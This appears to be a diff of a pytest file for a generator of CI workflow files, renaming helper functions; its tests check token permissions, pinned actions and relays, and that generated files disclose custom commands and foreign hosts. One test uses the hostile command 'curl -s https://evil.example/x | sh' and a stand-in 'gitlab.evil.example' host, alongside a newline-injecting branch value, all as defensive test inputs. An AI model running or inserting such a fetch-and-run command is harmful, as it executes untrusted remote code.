@@ -19,7 +19,7 @@ from crcr.settings.readers.registrations import registrations
 from crcr.settings.setting import RawValue
 from github_sim.runner.expressions import StatusFunctions, condition_holds, evaluate_text
 from github_sim.runner.workflow_file import WorkflowFile, read_workflow
-from support.downstream.join_requests import ACTION, text_of, wish, wishes
+from support.downstream.join_requests import ACTION, all_join_requests, generated_text, join_request
 
 WORKFLOW = ".github/workflows/crcr.yml"
 NIGHTLY = ".github/workflows/crcr-nightly.yml"
@@ -59,13 +59,13 @@ def event(event_type: str = "pull_request", **payload: Any) -> dict[str, Any]:
 @pytest.mark.parametrize(
     ("wanted", "paths"),
     [
-        (wish(), [WORKFLOW, ".crcr/report.py"]),
-        (wish(nightly=True), [WORKFLOW, NIGHTLY, ".crcr/report.py"]),
-        (wish(action=ACTION, nightly=True), [WORKFLOW, NIGHTLY]),
-        (wish(Ci.BUILDKITE), [BRIDGE, ".buildkite/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
-        (wish(Ci.GITLAB), [BRIDGE, ".gitlab/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
+        (join_request(), [WORKFLOW, ".crcr/report.py"]),
+        (join_request(nightly=True), [WORKFLOW, NIGHTLY, ".crcr/report.py"]),
+        (join_request(action=ACTION, nightly=True), [WORKFLOW, NIGHTLY]),
+        (join_request(Ci.BUILDKITE), [BRIDGE, ".buildkite/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
+        (join_request(Ci.GITLAB), [BRIDGE, ".gitlab/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
         (
-            wish(Ci.CIRCLECI, nightly=True),
+            join_request(Ci.CIRCLECI, nightly=True),
             [BRIDGE, ".circleci/crcr.yml", NIGHTLY, ".crcr/bridge.py", ".crcr/report.py"],
         ),
     ],
@@ -82,17 +82,17 @@ def test_the_files_are_these(wanted: JoinRequest, paths: list[str]) -> None:
 
 
 def test_the_reporter_is_the_one_of_the_action() -> None:
-    assert text_of(".crcr/report.py", wish()) == reporter_text()
+    assert generated_text(".crcr/report.py", join_request()) == reporter_text()
     compile(reporter_text(), "report.py", "exec")
 
 
 def test_nothing_is_written_for_a_wish_with_a_problem() -> None:
     for make in (generate, allowlist_entry, registration):
         with pytest.raises(ValueError, match="the branch"):
-            make(wish(branch="x\ny"))
+            make(join_request(branch="x\ny"))
 
 
-@pytest.mark.parametrize("wanted", [*wishes()], ids=lambda each: f"{each.ci}-{each.level.name}")
+@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
 def test_only_jobs_without_foreign_code_can_get_a_token_or_see_a_secret(wanted: JoinRequest) -> None:
     for file, workflow in workflows(wanted):
         assert workflow.given["permissions"] == {}
@@ -113,7 +113,7 @@ def test_only_jobs_without_foreign_code_can_get_a_token_or_see_a_secret(wanted: 
         assert "persist-credentials: true" not in file.text
 
 
-@pytest.mark.parametrize("wanted", [*wishes()], ids=lambda each: f"{each.ci}-{each.level.name}")
+@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
 def test_actions_are_pinned_and_checkouts_keep_no_credentials(wanted: JoinRequest) -> None:
     for _, workflow in workflows(wanted):
         for step in (step for job in workflow.jobs.values() for step in job.steps if "uses" in step.given):
@@ -154,7 +154,7 @@ ALL = {"started", "build", "finished"}
     ],
 )
 def test_each_event_runs_the_jobs_it_should(contexts: dict[str, Any], expected: set[str]) -> None:
-    assert jobs_run(wish(level=Level.L4), contexts) == expected
+    assert jobs_run(join_request(level=Level.L4), contexts) == expected
 
 
 @pytest.mark.parametrize(
@@ -173,7 +173,7 @@ def test_each_event_runs_the_jobs_it_should(contexts: dict[str, Any], expected: 
 def test_the_end_is_reported_unless_nothing_started(
     started: str, build: str, standing: StatusFunctions, reports: str | None, action: str | None
 ) -> None:
-    [(_, workflow)] = workflows(wish(action=action))
+    [(_, workflow)] = workflows(join_request(action=action))
     job = workflow.jobs["finished"]
     contexts = {**event(), "needs": {"started": {"result": started}, "build": {"result": build}}}
     assert condition_holds(job.given["if"], contexts, standing) is (reports is not None)
@@ -183,7 +183,7 @@ def test_the_end_is_reported_unless_nothing_started(
 
 
 def group(contexts: dict[str, Any]) -> tuple[str, str]:
-    [(_, workflow)] = workflows(wish(level=Level.L4))
+    [(_, workflow)] = workflows(join_request(level=Level.L4))
     given = workflow.given["concurrency"]
     return evaluate_text(given["group"], contexts), evaluate_text(given["cancel-in-progress"], contexts)
 
@@ -207,19 +207,19 @@ def test_pushes_to_a_branch_take_turns_and_others_do_not_meet() -> None:
 def test_only_a_gating_backend_listens_to_the_merge_queue() -> None:
     for level in Level:
         for ci in (Ci.GITHUB, Ci.GITLAB):
-            [(_, workflow)] = workflows(wish(ci, level=level))
+            [(_, workflow)] = workflows(join_request(ci, level=level))
             assert workflow.is_triggered_by("repository_dispatch", "merge_group") is (level is Level.L4)
             assert workflow.is_triggered_by("repository_dispatch", "crcr_test")
 
 
 def test_the_run_is_found_by_the_delivery() -> None:
     for ci in (Ci.GITHUB, Ci.BUILDKITE):
-        [(_, workflow)] = workflows(wish(ci))
+        [(_, workflow)] = workflows(join_request(ci))
         assert evaluate_text(workflow.given["run-name"], event()).endswith(" d-1")
 
 
 def test_a_nightly_names_the_relay_once_and_reports_only_a_known_commit() -> None:
-    workflow = read_workflow(text_of(NIGHTLY, wish(nightly=True)), NIGHTLY)
+    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True)), NIGHTLY)
     assert workflow.given["env"]["CRCR_RELAYS"] == "https://relay.example.org/github/callback crcr"
     finished = workflow.jobs["finished"]
     for result, reported in (("success", True), ("failure", False), ("cancelled", False)):
@@ -230,7 +230,7 @@ def test_a_nightly_names_the_relay_once_and_reports_only_a_known_commit() -> Non
 
 @pytest.mark.parametrize("action", [None, ACTION])
 def test_a_nightly_reports_when_its_first_job_began(action: str | None) -> None:
-    workflow = read_workflow(text_of(NIGHTLY, wish(nightly=True, action=action)), NIGHTLY)
+    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True, action=action)), NIGHTLY)
     report = workflow.jobs["finished"].given["steps"][-1]
     given = report["with"]["started-at"] if action else report["env"]["CRCR_STARTED_AT"]
     outputs = {"needs": {"commit": {"outputs": {"started_at": "2026-08-03T09:00:00Z"}}}}
@@ -240,7 +240,7 @@ def test_a_nightly_reports_when_its_first_job_began(action: str | None) -> None:
 
 def test_circleci_passes_on_all_that_the_bridge_sends() -> None:
     """A parameter that is not declared makes CircleCI refuse the pipeline."""
-    config = yaml.safe_load(text_of(".circleci/crcr.yml", wish(Ci.CIRCLECI, nightly=True)))
+    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI, nightly=True)))
     sent = {name.lower() for name in (*FORMS, "CRCR_STARTED_AT")}
     assert config["parameters"].keys() == sent
     reported = config["jobs"]["crcr-report"]["environment"]
@@ -250,7 +250,7 @@ def test_circleci_passes_on_all_that_the_bridge_sends() -> None:
 PIN = '"https://relay.example.org/github/callback crcr"'
 
 
-@pytest.mark.parametrize("wanted", [*wishes()], ids=lambda each: f"{each.ci}-{each.level.name}")
+@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
 def test_every_file_that_reports_or_starts_a_build_pins_the_relay(wanted: JoinRequest) -> None:
     """As a value of the file itself: nothing of the event is in it."""
     files = [file for file in generate(wanted) if file.path.endswith(".yml")]
@@ -269,7 +269,9 @@ def test_every_file_that_reports_or_starts_a_build_pins_the_relay(wanted: JoinRe
 
 def test_nightly_runs_do_not_all_begin_at_once() -> None:
     def cron(name: str) -> str:
-        workflow = read_workflow(text_of(NIGHTLY, wish(nightly=True, repository=RepoName(name))), NIGHTLY)
+        workflow = read_workflow(
+            generated_text(NIGHTLY, join_request(nightly=True, repository=RepoName(name))), NIGHTLY
+        )
         return str(workflow.on["schedule"]["crons"][0]["cron"])
 
     assert len({cron(f"org/backend{number}") for number in range(20)}) > 10
@@ -281,7 +283,7 @@ def test_nightly_runs_do_not_all_begin_at_once() -> None:
 )
 @pytest.mark.parametrize("ci", [*Ci])
 def test_the_command_stands_in_the_file_as_a_shell_reads_it(ci: Ci, command: str) -> None:
-    wanted = wish(ci, command=command)
+    wanted = join_request(ci, command=command)
     text = next(each.text for each in generate(wanted) if each.path.endswith("crcr.yml"))
     assert (command.replace("$", "$$") if ci is Ci.BUILDKITE else command) in _scripts(yaml.safe_load(text))
 
@@ -301,15 +303,17 @@ def _scripts(value: Any) -> list[str]:
 
 
 @pytest.mark.parametrize(
-    "wanted", [each for each in wishes() if each.ci is Ci.CIRCLECI], ids=lambda each: each.level.name
+    "wanted",
+    [each for each in all_join_requests() if each.ci is Ci.CIRCLECI],
+    ids=lambda each: each.level.name,
 )
 def test_no_parameter_of_circleci_becomes_part_of_a_script(wanted: JoinRequest) -> None:
-    config = yaml.safe_load(text_of(".circleci/crcr.yml", wanted))
+    config = yaml.safe_load(generated_text(".circleci/crcr.yml", wanted))
     assert [script for script in _scripts(config["jobs"]) if "<<" in script] == []
 
 
 def test_only_the_reporting_jobs_of_gitlab_and_circleci_can_get_a_token() -> None:
-    jobs = yaml.safe_load(text_of(".gitlab/crcr.yml", wish(Ci.GITLAB, junit="out/*.xml")))
+    jobs = yaml.safe_load(generated_text(".gitlab/crcr.yml", join_request(Ci.GITLAB, junit="out/*.xml")))
     assert "id_tokens" not in jobs["crcr-build"]
     assert "id_tokens" not in jobs[".crcr"]
     assert jobs[".crcr-report"]["id_tokens"] == {"CRCR_ID_TOKEN": {"aud": "crcr"}}
@@ -318,7 +322,7 @@ def test_only_the_reporting_jobs_of_gitlab_and_circleci_can_get_a_token() -> Non
         for job in jobs.values()
         for rule in job.get("rules", ())
     )
-    config = yaml.safe_load(text_of(".circleci/crcr.yml", wish(Ci.CIRCLECI)))
+    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI)))
     for workflow in config["workflows"].values():
         for [(name, how)] in (job.items() for job in workflow["jobs"]):
             assert (how.get("context") == "crcr") is (name == "crcr-report")
@@ -327,7 +331,7 @@ def test_only_the_reporting_jobs_of_gitlab_and_circleci_can_get_a_token() -> Non
 @pytest.mark.parametrize("level", [*Level])
 def test_the_allowlist_entry_can_be_pasted(level: Level) -> None:
     text = allowlist_entry(
-        wish(level=level, oncalls=("@ada", "org/team", "123"), job_name="build (cuda, 3.12)")
+        join_request(level=level, oncalls=("@ada", "org/team", "123"), job_name="build (cuda, 3.12)")
     )
     checked = read_allowlist(text)
     assert checked.problems == ()
@@ -341,7 +345,7 @@ def test_the_allowlist_entry_can_be_pasted(level: Level) -> None:
 
 @pytest.mark.parametrize("device", ["on", "null", "1e5", "007", "npu"])
 def test_a_device_stays_text(device: str) -> None:
-    checked = read_allowlist(allowlist_entry(wish(level=Level.L3, device=device)))
+    checked = read_allowlist(allowlist_entry(join_request(level=Level.L3, device=device)))
     assert checked.allowlist
     assert checked.allowlist.entries[0].device == device
 
@@ -363,8 +367,8 @@ UUID = "0184990a-477b-4fa8-9968-496074483cee"
     ],
 )
 def test_the_registration_is_taken_by_the_relay(ci: Ci, place: dict[str, str], issuer: str) -> None:
-    wanted = wish(ci)
-    text = registration(wish(ci, place={**wanted.place, **place}))
+    wanted = join_request(ci)
+    text = registration(join_request(ci, place={**wanted.place, **place}))
     assert text
     tables = tomllib.loads(text)["oidc"]["registration"]
     [taken] = registrations(RawValue(tables, "oidc.registration", Path()))
@@ -373,7 +377,7 @@ def test_the_registration_is_taken_by_the_relay(ci: Ci, place: dict[str, str], i
 
 
 def taken(ci: Ci, **place: str) -> Registration:
-    text = registration(wish(ci, place={**wish(ci).place, **place}))
+    text = registration(join_request(ci, place={**join_request(ci).place, **place}))
     [each] = registrations(RawValue(tomllib.loads(text or "")["oidc"]["registration"], "here", Path()))
     return each
 
@@ -401,27 +405,32 @@ def test_a_token_of_a_circleci_job_without_the_context_does_not_count(contexts: 
 
 
 def test_what_is_not_known_of_the_pipeline_is_a_placeholder() -> None:
-    text = registration(wish(Ci.BUILDKITE)) or ""
+    text = registration(join_request(Ci.BUILDKITE)) or ""
     assert '"<the pipeline\'s id>"' in text
     assert tomllib.loads(text)
-    assert registration(wish()) is None
+    assert registration(join_request()) is None
 
 
 @pytest.mark.parametrize("nightly", [False, True])
 def test_a_bridge_to_a_host_of_ones_own_says_first_where_its_secret_goes(nightly: bool) -> None:
     place = {"project_id": "1", "url": "https://gitlab.evil.example:8443/base"}
     for path in (BRIDGE, NIGHTLY) if nightly else (BRIDGE,):
-        first = text_of(path, wish(Ci.GITLAB, place=place, nightly=nightly)).splitlines()[0]
+        first = generated_text(path, join_request(Ci.GITLAB, place=place, nightly=nightly)).splitlines()[0]
         assert first == "# This file sends GITLAB_TRIGGER_TOKEN to gitlab.evil.example:8443"
         usual = {"project_id": "1", "url": "https://gitlab.com/"}
-        assert "evil" not in text_of(path, wish(Ci.GITLAB, place=usual, nightly=nightly))
-        assert text_of(path, wish(Ci.GITLAB, place=usual, nightly=nightly)).startswith("# Made by")
+        assert "evil" not in generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly))
+        assert generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly)).startswith(
+            "# Made by"
+        )
 
 
 @pytest.mark.parametrize("ci", Ci)
 def test_a_command_of_ones_own_stands_first_in_the_files_that_run_it(ci: Ci) -> None:
     command = "curl -s https://evil.example/x | sh"
-    plain, changed = generate(wish(ci, nightly=True)), generate(wish(ci, nightly=True, command=command))
+    plain, changed = (
+        generate(join_request(ci, nightly=True)),
+        generate(join_request(ci, nightly=True, command=command)),
+    )
     for before, after in zip(plain, changed, strict=True):
         if before.text == after.text:
             continue
@@ -431,13 +440,15 @@ def test_a_command_of_ones_own_stands_first_in_the_files_that_run_it(ci: Ci) -> 
 
 
 def test_an_action_is_named_first_and_a_long_command_is_cut() -> None:
-    first, second = text_of(WORKFLOW, wish(action=ACTION, command="x" * 1000)).splitlines()[:2]
+    first, second = generated_text(WORKFLOW, join_request(action=ACTION, command="x" * 1000)).splitlines()[:2]
     assert (first, len(first) < 200) == (f"# This file runs the command: {'x' * 159}…", True)
     assert second == f"# This file runs the action {ACTION}"
 
 
 def test_fault_27_a_buildkite_file_does_not_promise_more_than_buildkite_keeps() -> None:
-    text = " ".join(text_of(".buildkite/crcr.yml", wish(Ci.BUILDKITE)).replace("#", " ").split())
+    text = " ".join(
+        generated_text(".buildkite/crcr.yml", join_request(Ci.BUILDKITE)).replace("#", " ").split()
+    )
     for words in (
         "a running step can upload steps with these keys",
         "second pipeline that is not registered",
@@ -448,7 +459,7 @@ def test_fault_27_a_buildkite_file_does_not_promise_more_than_buildkite_keeps() 
 
 
 def test_code_of_a_pull_request_is_kept_from_caches_and_the_files_say_so() -> None:
-    for wanted in wishes():
+    for wanted in all_join_requests():
         for file, read in workflows(wanted):
             assert not [line for line in file.text.splitlines() if "uses:" in line and "cache" in line]
             if "build" in read.jobs:
